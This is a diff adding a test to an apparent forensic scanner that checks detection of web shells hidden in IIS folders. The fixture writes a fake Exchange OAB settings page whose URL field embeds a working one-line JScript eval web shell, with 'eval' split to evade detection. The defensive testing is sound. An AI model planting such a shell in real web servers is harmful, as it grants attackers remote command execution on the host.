@@ -129,3 +129,21 @@ def test_a_padded_page_is_read_at_both_ends(tmp_path: Path):
     told = judged(folder)
     assert told.files is not None
     assert told.files.remarkable[0].size == (20 << 20) + len(shell())
+
+
+def test_settings_written_out_as_a_page_are_told_as_both_and_judged_again_alike(tmp_path: Path):
+    folder = tmp_path / "evidence" / "inetpub" / "wwwroot" / "aspnet_client"
+    folder.mkdir(parents=True)
+    sink = "".join(("ev", "al"))
+    script = f'<script language="JScript" runat="server">{sink}(Request["k"],"unsafe");/*{MARK}*/</script>'
+    rows = (
+        "Name : OAB (Default Web Site)",
+        "InternalUrl : https://mail/OAB",
+        f"ExternalUrl : http://f/{script}",
+    )
+    (folder / "o.aspx").write_text("\n".join(rows) + "\n")
+    first = judged(tmp_path / "evidence", out=tmp_path / "out")
+    assert {"WS-FILE-VDIRTEXT", "PL-VDIR-SCRIPT"} <= {item.rule.id for item in first.findings}
+    assert len([chain for chain in first.chains if chain.level.rank >= Level.BROKEN_INTO.rank]) == 1
+    again = rejudge(Settings(evidence=(tmp_path / "out",), now=NOW))
+    assert (again.findings, again.chains) == (first.findings, first.chains)
